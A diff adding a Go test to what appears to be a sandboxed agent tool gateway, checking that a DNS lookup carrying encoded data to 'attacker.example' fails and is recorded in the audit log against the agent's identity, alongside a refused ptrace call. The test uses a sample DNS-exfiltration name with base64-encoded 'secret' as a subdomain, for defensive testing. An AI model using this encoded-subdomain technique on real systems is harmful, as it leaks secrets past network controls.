@@ -154,6 +154,19 @@ permit (principal in Role::"reader", action == Action::"call_tool", resource == 
 			t.Fatalf("egress record %d: %+v", i, ev)
 		}
 	}
+	// DNS is no way out either: a name that carries data resolves
+	// nowhere, and the refusal is recorded with the agent.
+	res, err = cs.CallTool(ctx, &mcp.CallToolParams{Name: "whoami", Arguments: map[string]any{"query": "resolve:c2VjcmV0.attacker.example"}})
+	if err != nil || !strings.Contains(textOf(res), "no such host") {
+		t.Fatalf("resolve from the sandboxed tool: %v %s", err, textOf(res))
+	}
+	names, err := e.Server.Store().Events(ctx, audit.Query{AfterSeq: -1, Actions: []string{gateway.ActionResolve}})
+	if err != nil || len(names) == 0 {
+		t.Fatalf("refused-name records: %v %v", names, err)
+	}
+	if ev, err := audit.EventFromRow(names[0]); err != nil || ev.Actor.ID != "spiffe://bulkhead.local/agent/alpha" || ev.Detail["name"] != "c2vjcmv0.attacker.example" {
+		t.Fatalf("refused-name record: %+v %v", ev, err)
+	}
 	// A refused system call is evidence: recorded, naming the agent whose
 	// session made it, before the call returns.
 	res, err = cs.CallTool(ctx, &mcp.CallToolParams{Name: "whoami", Arguments: map[string]any{"query": "ptrace"}})
